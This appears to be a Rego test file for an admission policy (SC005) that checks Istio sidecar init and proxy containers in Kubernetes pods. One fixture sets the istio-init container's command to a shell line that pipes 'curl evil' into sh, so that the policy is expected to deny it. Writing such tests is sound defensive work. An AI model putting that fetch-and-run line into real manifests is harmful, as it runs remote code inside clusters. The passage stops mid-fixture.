package policygen.sc005_test

import data.policygen.sc005

# policygen/checks.py: the check codes SC005 may report.
catalogued_checks := {"args-prefix", "command-set", "env-forbidden", "env-malformed", "env-not-allowed", "env-pinned-mismatch", "env-pinned-missing", "envfrom-forbidden", "exec-not-approved", "working-dir-set"}

approved_pod_input := {
	"apiVersion": "v1",
	"kind": "Pod",
	"metadata": {
		"annotations": {
			"inject.istio.io/templates": "sidecar",
			"sidecar.istio.io/interceptionMode": "REDIRECT",
			"sidecar.istio.io/status": "{\"initContainers\":[\"istio-init\",\"istio-validation\"],\"containers\":[\"istio-proxy\"]}",
			"traffic.sidecar.istio.io/excludeInboundPorts": "15020",
		},
		"labels": {
			"app": "shop",
			"istio.io/rev": "default",
		},
		"name": "approved-pod",
		"namespace": "checkout",
	},
	"spec": {
		"containers": [
			{
				"image": "registry.example.com/shop/app:2.1.0",
				"name": "app",
				"securityContext": {
					"runAsGroup": 1000,
					"runAsNonRoot": true,
					"runAsUser": 1000,
				},
			},
			{
				"args": [
					"proxy",
					"sidecar",
					"--log_output_level=default:info",
				],
				"env": [
					{
						"name": "CA_ADDR",
						"value": "istiod.istio-system.svc:15012",
					},
					{
						"name": "PILOT_CERT_PROVIDER",
						"value": "istiod",
					},
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-proxy",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "1",
						"memory": "512Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsGroup": 1337,
					"runAsNonRoot": true,
					"runAsUser": 1337,
				},
				"volumeMounts": [
					{
						"mountPath": "/etc/istio/proxy",
						"name": "credential-socket",
					},
				],
			},
		],
		"initContainers": [
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-init",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [
							"NET_ADMIN",
							"NET_RAW",
						],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"runAsUser": 0,
				},
			},
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-validation",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsNonRoot": true,
				},
			},
		],
		"volumes": [
			{
				"emptyDir": {},
				"name": "credential-socket",
			},
		],
	},
}

test_allows_approved_pod if {
	msgs := sc005.violations with input as approved_pod_input
	count(msgs) == 0
}

approved_deployment_input := {
	"apiVersion": "apps/v1",
	"kind": "Deployment",
	"metadata": {
		"name": "approved-deployment",
		"namespace": "checkout",
	},
	"spec": {
		"selector": {
			"matchLabels": {
				"app": "shop",
			},
		},
		"template": {
			"metadata": {
				"annotations": {
					"inject.istio.io/templates": "sidecar",
					"sidecar.istio.io/interceptionMode": "REDIRECT",
					"sidecar.istio.io/status": "{\"initContainers\":[\"istio-init\",\"istio-validation\"],\"containers\":[\"istio-proxy\"]}",
					"traffic.sidecar.istio.io/excludeInboundPorts": "15020",
				},
				"labels": {
					"app": "shop",
					"istio.io/rev": "default",
				},
			},
			"spec": {
				"containers": [
					{
						"image": "registry.example.com/shop/app:2.1.0",
						"name": "app",
						"securityContext": {
							"runAsGroup": 1000,
							"runAsNonRoot": true,
							"runAsUser": 1000,
						},
					},
					{
						"args": [
							"proxy",
							"sidecar",
							"--log_output_level=default:info",
						],
						"env": [
							{
								"name": "CA_ADDR",
								"value": "istiod.istio-system.svc:15012",
							},
							{
								"name": "PILOT_CERT_PROVIDER",
								"value": "istiod",
							},
						],
						"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
						"name": "istio-proxy",
						"resources": {
							"limits": {
								"cpu": "2",
								"memory": "1Gi",
							},
							"requests": {
								"cpu": "1",
								"memory": "512Mi",
							},
						},
						"securityContext": {
							"allowPrivilegeEscalation": false,
							"capabilities": {
								"add": [],
								"drop": [
									"ALL",
								],
							},
							"privileged": false,
							"readOnlyRootFilesystem": true,
							"runAsGroup": 1337,
							"runAsNonRoot": true,
							"runAsUser": 1337,
						},
						"volumeMounts": [
							{
								"mountPath": "/etc/istio/proxy",
								"name": "credential-socket",
							},
						],
					},
				],
				"initContainers": [
					{
						"args": [
							"istio-iptables",
							"--log_output_level=default:info",
						],
						"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
						"name": "istio-init",
						"resources": {
							"limits": {
								"cpu": "2",
								"memory": "1Gi",
							},
							"requests": {
								"cpu": "100m",
								"memory": "128Mi",
							},
						},
						"securityContext": {
							"allowPrivilegeEscalation": false,
							"capabilities": {
								"add": [
									"NET_ADMIN",
									"NET_RAW",
								],
								"drop": [
									"ALL",
								],
							},
							"privileged": false,
							"runAsUser": 0,
						},
					},
					{
						"args": [
							"istio-iptables",
							"--log_output_level=default:info",
						],
						"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
						"name": "istio-validation",
						"resources": {
							"limits": {
								"cpu": "2",
								"memory": "1Gi",
							},
							"requests": {
								"cpu": "100m",
								"memory": "128Mi",
							},
						},
						"securityContext": {
							"allowPrivilegeEscalation": false,
							"capabilities": {
								"add": [],
								"drop": [
									"ALL",
								],
							},
							"privileged": false,
							"readOnlyRootFilesystem": true,
							"runAsNonRoot": true,
						},
					},
				],
				"volumes": [
					{
						"emptyDir": {},
						"name": "credential-socket",
					},
				],
			},
		},
	},
}

test_allows_approved_deployment if {
	msgs := sc005.violations with input as approved_deployment_input
	count(msgs) == 0
}

command_override_input := {
	"apiVersion": "v1",
	"kind": "Pod",
	"metadata": {
		"annotations": {
			"inject.istio.io/templates": "sidecar",
			"sidecar.istio.io/interceptionMode": "REDIRECT",
			"sidecar.istio.io/status": "{\"initContainers\":[\"istio-init\",\"istio-validation\"],\"containers\":[\"istio-proxy\"]}",
			"traffic.sidecar.istio.io/excludeInboundPorts": "15020",
		},
		"labels": {
			"app": "shop",
			"istio.io/rev": "default",
		},
		"name": "command-override",
		"namespace": "checkout",
	},
	"spec": {
		"containers": [
			{
				"image": "registry.example.com/shop/app:2.1.0",
				"name": "app",
				"securityContext": {
					"runAsGroup": 1000,
					"runAsNonRoot": true,
					"runAsUser": 1000,
				},
			},
			{
				"args": [
					"proxy",
					"sidecar",
					"--log_output_level=default:info",
				],
				"env": [
					{
						"name": "CA_ADDR",
						"value": "istiod.istio-system.svc:15012",
					},
					{
						"name": "PILOT_CERT_PROVIDER",
						"value": "istiod",
					},
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-proxy",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "1",
						"memory": "512Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsGroup": 1337,
					"runAsNonRoot": true,
					"runAsUser": 1337,
				},
				"volumeMounts": [
					{
						"mountPath": "/etc/istio/proxy",
						"name": "credential-socket",
					},
				],
			},
		],
		"initContainers": [
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"command": [
					"/bin/sh",
					"-c",
					"curl evil | sh",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-init",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [
							"NET_ADMIN",
							"NET_RAW",
						],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"runAsUser": 0,
				},
			},
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-validation",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsNonRoot": true,
				},
			},
		],
		"volumes": [
			{
				"emptyDir": {},
				"name": "credential-socket",
			},
		],
	},
}

test_denies_command_override if {
	msgs := sc005.violations with input as command_override_input
	count(msgs) > 0
	every msg in msgs {
		msg.rule == "SC005"
		msg.check in catalogued_checks
		startswith(msg.msg, concat("", [msg.rule, "/", msg.check, " "]))
	}
}

working_dir_set_input := {
	"apiVersion": "v1",
	"kind": "Pod",
	"metadata": {
		"annotations": {
			"inject.istio.io/templates": "sidecar",
			"sidecar.istio.io/interceptionMode": "REDIRECT",
			"sidecar.istio.io/status": "{\"initContainers\":[\"istio-init\",\"istio-validation\"],\"containers\":[\"istio-proxy\"]}",
			"traffic.sidecar.istio.io/excludeInboundPorts": "15020",
		},
		"labels": {
			"app": "shop",
			"istio.io/rev": "default",
		},
		"name": "working-dir-set",
		"namespace": "checkout",
	},
	"spec": {
		"containers": [
			{
				"image": "registry.example.com/shop/app:2.1.0",
				"name": "app",
				"securityContext": {
					"runAsGroup": 1000,
					"runAsNonRoot": true,
					"runAsUser": 1000,
				},
			},
			{
				"args": [
					"proxy",
					"sidecar",
					"--log_output_level=default:info",
				],
				"env": [
					{
						"name": "CA_ADDR",
						"value": "istiod.istio-system.svc:15012",
					},
					{
						"name": "PILOT_CERT_PROVIDER",
						"value": "istiod",
					},
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-proxy",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "1",
						"memory": "512Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsGroup": 1337,
					"runAsNonRoot": true,
					"runAsUser": 1337,
				},
				"volumeMounts": [
					{
						"mountPath": "/etc/istio/proxy",
						"name": "credential-socket",
					},
				],
			},
		],
		"initContainers": [
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-init",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [
							"NET_ADMIN",
							"NET_RAW",
						],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"runAsUser": 0,
				},
				"workingDir": "/var/lib/istio/data",
			},
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-validation",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsNonRoot": true,
				},
			},
		],
		"volumes": [
			{
				"emptyDir": {},
				"name": "credential-socket",
			},
		],
	},
}

test_denies_working_dir_set if {
	msgs := sc005.violations with input as working_dir_set_input
	count(msgs) > 0
	every msg in msgs {
		msg.rule == "SC005"
		msg.check in catalogued_checks
		startswith(msg.msg, concat("", [msg.rule, "/", msg.check, " "]))
	}
}

working_dir_root_input := {
	"apiVersion": "v1",
	"kind": "Pod",
	"metadata": {
		"annotations": {
			"inject.istio.io/templates": "sidecar",
			"sidecar.istio.io/interceptionMode": "REDIRECT",
			"sidecar.istio.io/status": "{\"initContainers\":[\"istio-init\",\"istio-validation\"],\"containers\":[\"istio-proxy\"]}",
			"traffic.sidecar.istio.io/excludeInboundPorts": "15020",
		},
		"labels": {
			"app": "shop",
			"istio.io/rev": "default",
		},
		"name": "working-dir-root",
		"namespace": "checkout",
	},
	"spec": {
		"containers": [
			{
				"image": "registry.example.com/shop/app:2.1.0",
				"name": "app",
				"securityContext": {
					"runAsGroup": 1000,
					"runAsNonRoot": true,
					"runAsUser": 1000,
				},
			},
			{
				"args": [
					"proxy",
					"sidecar",
					"--log_output_level=default:info",
				],
				"env": [
					{
						"name": "CA_ADDR",
						"value": "istiod.istio-system.svc:15012",
					},
					{
						"name": "PILOT_CERT_PROVIDER",
						"value": "istiod",
					},
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-proxy",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "1",
						"memory": "512Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsGroup": 1337,
					"runAsNonRoot": true,
					"runAsUser": 1337,
				},
				"volumeMounts": [
					{
						"mountPath": "/etc/istio/proxy",
						"name": "credential-socket",
					},
				],
			},
		],
		"initContainers": [
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-init",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [
							"NET_ADMIN",
							"NET_RAW",
						],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"runAsUser": 0,
				},
				"workingDir": "/",
			},
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-validation",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsNonRoot": true,
				},
			},
		],
		"volumes": [
			{
				"emptyDir": {},
				"name": "credential-socket",
			},
		],
	},
}

test_denies_working_dir_root if {
	msgs := sc005.violations with input as working_dir_root_input
	count(msgs) > 0
	every msg in msgs {
		msg.rule == "SC005"
		msg.check in catalogued_checks
		startswith(msg.msg, concat("", [msg.rule, "/", msg.check, " "]))
	}
}

working_dir_empty_input := {
	"apiVersion": "v1",
	"kind": "Pod",
	"metadata": {
		"annotations": {
			"inject.istio.io/templates": "sidecar",
			"sidecar.istio.io/interceptionMode": "REDIRECT",
			"sidecar.istio.io/status": "{\"initContainers\":[\"istio-init\",\"istio-validation\"],\"containers\":[\"istio-proxy\"]}",
			"traffic.sidecar.istio.io/excludeInboundPorts": "15020",
		},
		"labels": {
			"app": "shop",
			"istio.io/rev": "default",
		},
		"name": "working-dir-empty",
		"namespace": "checkout",
	},
	"spec": {
		"containers": [
			{
				"image": "registry.example.com/shop/app:2.1.0",
				"name": "app",
				"securityContext": {
					"runAsGroup": 1000,
					"runAsNonRoot": true,
					"runAsUser": 1000,
				},
			},
			{
				"args": [
					"proxy",
					"sidecar",
					"--log_output_level=default:info",
				],
				"env": [
					{
						"name": "CA_ADDR",
						"value": "istiod.istio-system.svc:15012",
					},
					{
						"name": "PILOT_CERT_PROVIDER",
						"value": "istiod",
					},
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-proxy",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "1",
						"memory": "512Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsGroup": 1337,
					"runAsNonRoot": true,
					"runAsUser": 1337,
				},
				"volumeMounts": [
					{
						"mountPath": "/etc/istio/proxy",
						"name": "credential-socket",
					},
				],
			},
		],
		"initContainers": [
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-init",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [
							"NET_ADMIN",
							"NET_RAW",
						],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"runAsUser": 0,
				},
				"workingDir": "",
			},
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-validation",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsNonRoot": true,
				},
			},
		],
		"volumes": [
			{
				"emptyDir": {},
				"name": "credential-socket",
			},
		],
	},
}

test_allows_working_dir_empty if {
	msgs := sc005.violations with input as working_dir_empty_input
	count(msgs) == 0
}

working_dir_not_a_string_input := {
	"apiVersion": "v1",
	"kind": "Pod",
	"metadata": {
		"annotations": {
			"inject.istio.io/templates": "sidecar",
			"sidecar.istio.io/interceptionMode": "REDIRECT",
			"sidecar.istio.io/status": "{\"initContainers\":[\"istio-init\",\"istio-validation\"],\"containers\":[\"istio-proxy\"]}",
			"traffic.sidecar.istio.io/excludeInboundPorts": "15020",
		},
		"labels": {
			"app": "shop",
			"istio.io/rev": "default",
		},
		"name": "working-dir-not-a-string",
		"namespace": "checkout",
	},
	"spec": {
		"containers": [
			{
				"image": "registry.example.com/shop/app:2.1.0",
				"name": "app",
				"securityContext": {
					"runAsGroup": 1000,
					"runAsNonRoot": true,
					"runAsUser": 1000,
				},
			},
			{
				"args": [
					"proxy",
					"sidecar",
					"--log_output_level=default:info",
				],
				"env": [
					{
						"name": "CA_ADDR",
						"value": "istiod.istio-system.svc:15012",
					},
					{
						"name": "PILOT_CERT_PROVIDER",
						"value": "istiod",
					},
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-proxy",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "1",
						"memory": "512Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsGroup": 1337,
					"runAsNonRoot": true,
					"runAsUser": 1337,
				},
				"volumeMounts": [
					{
						"mountPath": "/etc/istio/proxy",
						"name": "credential-socket",
					},
				],
			},
		],
		"initContainers": [
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-init",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [
							"NET_ADMIN",
							"NET_RAW",
						],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"runAsUser": 0,
				},
				"workingDir": [
					"/tmp",
				],
			},
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-validation",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsNonRoot": true,
				},
			},
		],
		"volumes": [
			{
				"emptyDir": {},
				"name": "credential-socket",
			},
		],
	},
}

test_denies_working_dir_not_a_string if {
	msgs := sc005.violations with input as working_dir_not_a_string_input
	count(msgs) > 0
	every msg in msgs {
		msg.rule == "SC005"
		msg.check in catalogued_checks
		startswith(msg.msg, concat("", [msg.rule, "/", msg.check, " "]))
	}
}

args_replaced_input := {
	"apiVersion": "v1",
	"kind": "Pod",
	"metadata": {
		"annotations": {
			"inject.istio.io/templates": "sidecar",
			"sidecar.istio.io/interceptionMode": "REDIRECT",
			"sidecar.istio.io/status": "{\"initContainers\":[\"istio-init\",\"istio-validation\"],\"containers\":[\"istio-proxy\"]}",
			"traffic.sidecar.istio.io/excludeInboundPorts": "15020",
		},
		"labels": {
			"app": "shop",
			"istio.io/rev": "default",
		},
		"name": "args-replaced",
		"namespace": "checkout",
	},
	"spec": {
		"containers": [
			{
				"image": "registry.example.com/shop/app:2.1.0",
				"name": "app",
				"securityContext": {
					"runAsGroup": 1000,
					"runAsNonRoot": true,
					"runAsUser": 1000,
				},
			},
			{
				"args": [
					"proxy",
					"sidecar",
					"--log_output_level=default:info",
				],
				"env": [
					{
						"name": "CA_ADDR",
						"value": "istiod.istio-system.svc:15012",
					},
					{
						"name": "PILOT_CERT_PROVIDER",
						"value": "istiod",
					},
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-proxy",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "1",
						"memory": "512Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsGroup": 1337,
					"runAsNonRoot": true,
					"runAsUser": 1337,
				},
				"volumeMounts": [
					{
						"mountPath": "/etc/istio/proxy",
						"name": "credential-socket",
					},
				],
			},
		],
		"initContainers": [
			{
				"args": [
					"--evil",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-init",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [
							"NET_ADMIN",
							"NET_RAW",
						],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"runAsUser": 0,
				},
			},
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-validation",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsNonRoot": true,
				},
			},
		],
		"volumes": [
			{
				"emptyDir": {},
				"name": "credential-socket",
			},
		],
	},
}

test_denies_args_replaced if {
	msgs := sc005.violations with input as args_replaced_input
	count(msgs) > 0
	every msg in msgs {
		msg.rule == "SC005"
		msg.check in catalogued_checks
		startswith(msg.msg, concat("", [msg.rule, "/", msg.check, " "]))
	}
}

args_prefix_shifted_input := {
	"apiVersion": "v1",
	"kind": "Pod",
	"metadata": {
		"annotations": {
			"inject.istio.io/templates": "sidecar",
			"sidecar.istio.io/interceptionMode": "REDIRECT",
			"sidecar.istio.io/status": "{\"initContainers\":[\"istio-init\",\"istio-validation\"],\"containers\":[\"istio-proxy\"]}",
			"traffic.sidecar.istio.io/excludeInboundPorts": "15020",
		},
		"labels": {
			"app": "shop",
			"istio.io/rev": "default",
		},
		"name": "args-prefix-shifted",
		"namespace": "checkout",
	},
	"spec": {
		"containers": [
			{
				"image": "registry.example.com/shop/app:2.1.0",
				"name": "app",
				"securityContext": {
					"runAsGroup": 1000,
					"runAsNonRoot": true,
					"runAsUser": 1000,
				},
			},
			{
				"args": [
					"proxy",
					"sidecar",
					"--log_output_level=default:info",
				],
				"env": [
					{
						"name": "CA_ADDR",
						"value": "istiod.istio-system.svc:15012",
					},
					{
						"name": "PILOT_CERT_PROVIDER",
						"value": "istiod",
					},
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-proxy",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "1",
						"memory": "512Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsGroup": 1337,
					"runAsNonRoot": true,
					"runAsUser": 1337,
				},
				"volumeMounts": [
					{
						"mountPath": "/etc/istio/proxy",
						"name": "credential-socket",
					},
				],
			},
		],
		"initContainers": [
			{
				"args": [
					"--evil",
					"istio-iptables",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-init",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [
							"NET_ADMIN",
							"NET_RAW",
						],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"runAsUser": 0,
				},
			},
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
